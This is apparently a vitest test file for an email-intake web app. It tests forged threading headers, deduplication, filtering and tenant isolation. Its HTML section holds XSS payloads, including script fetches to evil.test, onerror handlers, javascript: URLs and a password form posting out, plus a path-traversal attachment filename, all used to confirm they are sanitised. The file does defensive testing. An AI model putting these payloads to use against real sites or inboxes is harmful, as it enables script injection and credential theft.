import { sql } from 'kysely';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { addMember } from '../src/people/add-member.ts';
import { deliver, filteredOf, type Mailbox, type MailParts, mail, requestsOf } from './factories.ts';
import { type Organisation, World } from './world.ts';

let world: World;
let place: Organisation;
let box: Mailbox;

beforeAll(async () => {
  world = await World.create({ now: '2026-03-02T15:00:00Z' });
  place = await world.organisation();
  box = await world.mailbox(place, 'sales@larkfield.test');
});
afterEach(() =>
  world.owner((db) => sql`truncate contact, filtered, absence, timer, blob_chunk cascade`.execute(db)),
);
afterAll(() => world[Symbol.asyncDispose]());

const take = (parts: MailParts) => deliver(world, place, box, mail(parts));
const get = (path: string) =>
  world.http.inject({ url: `/api/o/${place.slug}${path}`, headers: { cookie: place.founder.cookie } });
const release = (id: string) =>
  world.http.inject({
    method: 'POST',
    url: `/api/o/${place.slug}/filtered/${id}/release`,
    headers: { cookie: place.founder.cookie },
  });

describe('threading headers', () => {
  const first = { messageId: '<first@buyer.test>' };

  it.each([
    ['In-Reply-To', 'In-Reply-To: <first@buyer.test>'],
    ['References', 'References: <x@y> <first@buyer.test>'],
  ])('by the right sender continue the conversation: %s', async (_, header) => {
    await take(first);
    expect(await take({ subject: 'Re: Pump', headers: [header], text: 'And 50 metres?' })).toBe('request');
    expect(await requestsOf(world, place)).toMatchObject([
      { messages: 2, text: expect.stringContaining('50 metres') },
    ]);
  });

  it.each([
    ['In-Reply-To', ['In-Reply-To: <first@buyer.test>']],
    ['References', ['References: <first@buyer.test>']],
    ['another name with the right Reply-To', ['In-Reply-To: <first@buyer.test>', 'Reply-To: ada@buyer.test']],
    ['a second From', ['In-Reply-To: <first@buyer.test>', 'From: ada@buyer.test']],
    ['a Sender', ['In-Reply-To: <first@buyer.test>', 'Sender: ada@buyer.test']],
  ])('of a stranger open a request of their own: %s', async (_, headers) => {
    await take({ ...first, text: 'A secret of Ada’s?' });
    const forged = { from: '"ada@buyer.test" <eve@evil.test>', headers, text: 'What did she ask?' };
    expect(await take(forged)).toBe('request');
    const [ada, eve] = await requestsOf(world, place);
    expect(ada).toMatchObject({ email: 'ada@buyer.test', messages: 1 });
    expect(eve).toMatchObject({ email: 'eve@evil.test', messages: 1 });
    expect(eve?.conversation_id).not.toBe(ada?.conversation_id);
    expect((await get(`/requests/${eve?.id}`)).body).not.toContain('secret');
    expect((await get(`/requests/${ada?.id}`)).body).not.toContain('What did she ask');
  });

  it('of a stranger who knows the reply address open one of their own', async () => {
    await take(first);
    const { rows } = await world.owner((db) =>
      sql<{ reply_token: string }>`select reply_token from conversation`.execute(db),
    );
    const to = `sales+${rows[0]?.reply_token}@larkfield.test`;
    await take({ from: 'eve@evil.test', to, text: 'Let me in?' });
    expect(await requestsOf(world, place)).toMatchObject([{ messages: 1 }, { email: 'eve@evil.test' }]);
    await take({ to, text: 'It is me again?' });
    expect(await requestsOf(world, place)).toMatchObject([{ messages: 2 }, { messages: 1 }]);
  });

  it('reach into no other organisation', async () => {
    await take({ ...first, text: 'A secret of Ada’s?' });
    const other = await world.organisation('Other');
    const otherBox = await world.mailbox(other, 'sales@other.test');
    const reply = mail({ headers: ['In-Reply-To: <first@buyer.test>'], text: 'And 50 metres?' });
    expect(await deliver(world, other, otherBox, reply)).toBe('request');
    expect(await requestsOf(world, other)).toMatchObject([{ messages: 1 }]);
    expect(await requestsOf(world, place)).toMatchObject([{ messages: 1 }]);
  });
});

describe('the same mail', () => {
  it('delivered twice is there once', async () => {
    const raw = mail({ messageId: '<one@buyer.test>' });
    expect(await deliver(world, place, box, raw, { deliveryKey: 'box:1:1' })).toBe('request');
    expect(await deliver(world, place, box, raw, { deliveryKey: 'box:2:9' })).toBe('duplicate');
    expect(await requestsOf(world, place)).toMatchObject([{ messages: 1 }]);
  });

  it('delivered many times at once is there once', async () => {
    const raw = mail({ messageId: '<one@buyer.test>' });
    const outcomes = await Promise.all(Array.from({ length: 20 }, () => deliver(world, place, box, raw)));
    expect(outcomes.filter((outcome) => outcome === 'request')).toHaveLength(1);
    expect(await requestsOf(world, place)).toMatchObject([{ messages: 1 }]);
  });

  it('without a Message-ID is told by where it lies', async () => {
    const raw = mail({ messageId: null });
    await deliver(world, place, box, raw, { deliveryKey: 'box:1:1' });
    expect(await deliver(world, place, box, raw, { deliveryKey: 'box:1:1' })).toBe('duplicate');
    expect(await deliver(world, place, box, raw, { deliveryKey: 'box:1:2' })).toBe('request');
  });

  it('of a machine is in Filtered once, also at once and after a person let it in', async () => {
    const raw = mail({ messageId: '<one@buyer.test>', headers: ['Auto-Submitted: auto-replied'] });
    await Promise.all(Array.from({ length: 10 }, () => deliver(world, place, box, raw)));
    const [kept, ...more] = await filteredOf(world, place);
    expect(more).toEqual([]);
    await Promise.all([release(kept?.id ?? ''), release(kept?.id ?? ''), release(kept?.id ?? '')]);
    expect(await deliver(world, place, box, raw)).toBe('duplicate');
    expect(await requestsOf(world, place)).toHaveLength(1);
    expect(await filteredOf(world, place)).toHaveLength(1);
  });

  it('of a colleague into a conversation, twice at once, is there once', async () => {
    await take({ messageId: '<first@buyer.test>' });
    const raw = mail({
      from: place.founder.email,
      to: 'ada@buyer.test',
      messageId: '<own@larkfield.test>',
      headers: ['In-Reply-To: <first@buyer.test>'],
      text: 'It lifts 40 metres.',
    });
    const all = await Promise.allSettled(Array.from({ length: 5 }, () => deliver(world, place, box, raw)));
    expect(all.filter((one) => one.status === 'fulfilled' && one.value === 'own')).toHaveLength(1);
    const again = await deliver(world, place, box, raw);
    expect(again).toBe('duplicate');
    const { rows } = await world.owner((db) =>
      sql`select 1 from message where direction = 'out'`.execute(db),
    );
    expect(rows).toHaveLength(1);
  });

  it('by its id, but with another body, is another mail: both are kept', async () => {
    const messageId = '<reused@buyer.test>';
    expect(await take({ messageId, text: 'Can it lift 40 metres?' })).toBe('request');
    expect(await take({ messageId, text: 'Do you ship to Oslo?' })).toBe('request');
    expect((await requestsOf(world, place)).map(({ text }) => text)).toEqual([
      expect.stringContaining('40 metres'),
      expect.stringContaining('Oslo'),
    ]);
  });
});

describe('what opens no request', () => {
  it.each<[string, MailParts, string]>([
    ['an automatic reply', { headers: ['Auto-Submitted: auto-replied'] }, 'automatic'],
    ['a newsletter', { headers: ['List-Unsubscribe: <https://n.test/u>', 'Precedence: bulk'] }, 'bulk'],
    [
      'a bounce',
      {
        from: 'MAILER-DAEMON@mx.test',
        headers: ['X-Failed-Recipients: gone@buyer.test'],
        subject: 'Undelivered',
      },
      'bounce',
    ],
    [
      'our own mail come back',
      { from: 'sales@larkfield.test', headers: ['X-Heed-Message: 7'], subject: 'Re: Pump' },
      'loop',
    ],
    ['a suspicious subject', { subject: 'Automatic reply: Pump' }, 'suspected'],
  ])('waits in Filtered with its reason: %s', async (_, parts, reason) => {
    await take(parts);
    expect(await requestsOf(world, place)).toEqual([]);
    const list = (await get('/filtered')).json();
    expect(list.items).toMatchObject([{ reason, state: 'filtered', can: ['release'] }]);
    expect(list.items[0].evidence.join()).toMatch(/\w/);
  });

  it('let in by a person has its true receipt time, and its clock has run since then', async () => {
    await take({ headers: ['Auto-Submitted: auto-replied'], text: 'Can it lift 40 metres?' });
    const [kept] = await filteredOf(world, place);
    await world.advance('3 hours');
    const { requestId } = (await release(kept?.id ?? '')).json();
    const page = (await get(`/requests/${requestId}`)).json();
    expect(page.receivedAt).toBe('2026-03-02T15:00:00.000Z');
    expect(page.clocks.length).toBeGreaterThan(0);
    for (const clock of page.clocks) expect(clock.startedAt).toBe('2026-03-02T15:00:00.000Z');
    const [item] = (await get('/filtered')).json().items;
    expect(item).toMatchObject({ state: 'released', requestId, can: [] });
    const again = (await release(kept?.id ?? '')).json();
    expect(again).toEqual({ requestId });
    expect(await requestsOf(world, place)).toHaveLength(1);
  });

  it('is listed to its end, though many came in the same instant', async () => {
    for (let i = 0; i < 120; i += 1) await take({ headers: ['Auto-Submitted: auto-replied'] });
    const seen = new Set<string>();
    for (let next: string | null = ''; next !== null; ) {
      const page: { items: { id: string }[]; next: string | null } = (
        await get(`/filtered${next && `?before=${encodeURIComponent(next)}`}`)
      ).json();
      for (const { id } of page.items) seen.add(id);
      next = page.next;
    }
    expect(seen.size).toBe(120);
  });
});

describe('a mail in a colleague’s name', () => {
  it('has no effect beyond its organisation', async () => {
    const other = await world.organisation('Other');
    await world.owner(async (db) => {
      const { orgId, teamId } = other;
      const { userId, email } = place.founder;
      await addMember(db, {
        orgId,
        teamId,
        userId,
        name: 'Both',
        email,
        roles: ['expert'],
        week: null,
        now: 0,
      });
    });
    const away = { from: place.founder.email, subject: 'Automatic reply: Out of office' };
    await take({ messageId: '<known@buyer.test>' });
    await take({ ...away, headers: ['Auto-Submitted: auto-replied', 'In-Reply-To: <known@buyer.test>'] });
    const { rows } = await world.owner((db) => sql`select org_id from absence`.execute(db));
    expect(rows).toEqual([{ org_id: place.orgId }]);
  });

  it('that names none of our conversations marks nobody absent: From is easily forged', async () => {
    const away = { from: place.founder.email, subject: 'Automatic reply: Out of office' };
    expect(
      await take({ ...away, headers: ['Auto-Submitted: auto-replied', 'In-Reply-To: <guess@buyer.test>'] }),
    ).toBe('filtered');
    const { rows } = await world.owner((db) => sql`select org_id from absence`.execute(db));
    expect(rows).toEqual([]);
  });
});

describe('a mail that the database refuses', () => {
  it.each(['22001', '54000'])('waits whole in Filtered and keeps none behind it out (%s)', async (code) => {
    await world.owner(async (db) => {
      await sql`create or replace function refuse() returns trigger language plpgsql as
        $$ begin raise exception using errcode = ${sql.lit(code)}, message = 'no'; end $$`.execute(db);
      await sql`create trigger refuse before insert on message for each row
        when (new.text like '%poison%') execute function refuse()`.execute(db);
    });
    const raw = mail({ text: 'poison' });
    const [bad, good] = await Promise.all([deliver(world, place, box, raw), take({ text: 'A pump?' })]);
    expect([bad, good]).toEqual(['filtered', 'request']);
    expect(await deliver(world, place, box, raw)).toBe('filtered');
    expect(await filteredOf(world, place)).toMatchObject([{ reason: 'unreadable', evidence: ['no'] }]);
    const [kept] = await filteredOf(world, place);
    await world.owner((db) => sql`drop trigger refuse on message`.execute(db));
    const { requestId } = (await release(kept?.id ?? '')).json();
    const [message] = (await get(`/requests/${requestId}`)).json().messages;
    const file = await get(`/attachments/${message.attachments[0].id}`);
    expect(file.rawPayload.equals(raw)).toBe(true);
  });

  it('for a while is not parked: it is asked for again', async () => {
    await world.owner((db) => sql`alter table message rename to gone`.execute(db));
    await expect(take({})).rejects.toThrow();
    await world.owner((db) => sql`alter table gone rename to message`.execute(db));
    expect(await filteredOf(world, place)).toEqual([]);
    expect(await take({})).toBe('request');
  });
});

describe('HTML in a mail', () => {
  const hostile = [
    '<p>Can it lift 40 metres?</p><script>fetch("//evil.test")</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)><svg/onload=alert(1)><body onload=alert(1)>',
    '<a href="javascript:alert(1)">one</a><a href="jAvAsCrIpT&#58;alert(1)">two</a>',
    '<a href="data:text/html,<script>alert(1)</script>">three</a><iframe src="//evil.test"></iframe>',
    '<form action="//evil.test"><input name=password></form><meta http-equiv=refresh content="0;url=//evil.test">',
    '<style>@import "//evil.test/x.css"</style><link rel=stylesheet href="//evil.test"><base href="//evil.test">',
    '<img src="http://track.test/pixel.gif"><img src="//track.test/p"><div style="background:url(//track.test)">',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<object data=x></object><embed src=x><video onplay=alert(1)>',
    '<template><script>alert(1)</script></template><!--><img src=x onerror=alert(1)>-->',
  ].join('\n');

  it('is shown without script, handler, form, frame or anything fetched, in a sandbox', async () => {
    await take({ headers: ['Content-Type: text/html; charset=utf-8'], text: hostile });
    const [request] = await requestsOf(world, place);
    expect(request?.text).toContain('Can it lift 40 metres?');
    const answer = await get(`/messages/${request?.message_id}/html`);
    expect(answer.statusCode).toBe(200);
    const csp = String(answer.headers['content-security-policy']);
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).toMatch(/sandbox(?!.*allow-(scripts|same-origin|forms|top-navigation))/);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    // Behind the page's own head.
    const shown = answer.body.slice(answer.body.indexOf('</style>') + '</style>'.length);
    const tags = [...shown.matchAll(/<\/?([a-z][\w-]*)([^>]*)>/gi)];
    const names = new Set(tags.map((match) => match[1]?.toLowerCase()));
    for (const name of [
      'script',
      'svg',
      'iframe',
      'form',
      'input',
      'style',
      'link',
      'object',
      'embed',
      'math',
    ])
      expect(names).not.toContain(name);
    const attributes = tags.map((match) => match[2] ?? '').join(' ');
    expect(attributes).not.toMatch(/\son\w+\s*=|javascript|data:text|style\s*=/i);
    expect(attributes).not.toMatch(/(src|background|srcset)\s*=\s*"?(http|\/\/)/i);
  });

  it('stays out of every JSON answer and of the list of requests', async () => {
    await take({ headers: ['Content-Type: text/html'], text: hostile, subject: '<script>x</script>' });
    const [request] = await requestsOf(world, place);
    const page = await get(`/requests/${request?.id}`);
    expect(page.body).not.toContain('onerror');
    expect(page.headers['content-type']).toMatch(/^application\/json/);
  });

  it('in an attachment is a download, never a page', async () => {
    await take({
      headers: ['Content-Type: multipart/mixed; boundary=b'],
      body: '--b\r\n\r\nHi?\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="../../x\r\n"; a=.html"\r\n\r\n<script>1</script>\r\n--b--',
    });
    const [request] = await requestsOf(world, place);
    const [message] = (await get(`/requests/${request?.id}`)).json().messages;
    const [file] = message.attachments;
    expect(file.name).not.toMatch(/[/\\\r\n]/);
    const { headers } = await get(`/attachments/${file.id}`);
    expect(headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'content-disposition': expect.stringMatching(/^attachment; filename\*=UTF-8''[\w.%~!'()*-]+$/),
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cross-origin-resource-policy': 'same-origin',
    });
  });
});
